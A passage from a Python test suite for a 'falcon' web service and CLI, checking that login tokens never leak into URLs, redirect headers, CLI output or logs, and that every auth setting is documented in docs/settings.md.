        urls = re.findall(r'(?:href|action|src)="([^"]*)"', body)
        for name, value in res.items():
            assert token not in value, name
            if name.lower() in ("location", "content-location", "refresh", "link"):
                urls.append(value)
        assert all(token not in url for url in urls)
    assert answer["Location"].startswith("http://127.0.0.1:54321/callback?")


def test_the_real_cli_login_puts_the_token_in_no_url(live_server, tmp_path, cloudflare, caplog):
    """The `falcon` CLI against a live server and a browser behind a fake Access identity."""
    from cli.tests.test_cloudflare_login import FakeBrowser, run_cli

    caplog.set_level(logging.DEBUG)
    token = cloudflare.sign()
    fake = FakeBrowser(token)
    result, env = run_cli(live_server.url, tmp_path, "auth", "login", browser=fake)
    assert result.exit_code == 0, result.output
    urls = fake.opened + fake.locations + [str(r.url) for r in env.transport.requests]
    assert len(fake.locations) == 1 and all(token not in url for url in urls)
    assert token not in result.output and token not in caplog.text


def test_the_settings_page_lists_every_auth_setting():
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    readme = (root / "docs/settings.md").read_text()
    source = (root / "falcon_site/settings/auth.py").read_text()
    names = set(re.findall(r"^(FALCON_[A-Z_]+) =", source, re.M)) - {"FALCON_INTERNAL_TOKEN_FILE",
                                                                     "FALCON_LOCAL_SIGNING_KEY"}
    shown = set(re.findall(r"FALCON_[A-Z_]+", readme))
    suffixes = {m for m in re.findall(r"`(_[A-Z_]+SECONDS)`", readme)}
    missing = {n for n in names if n not in shown
               and not any(n == "FALCON_AUTH_JWKS" + s for s in suffixes)}
    assert not missing, missing
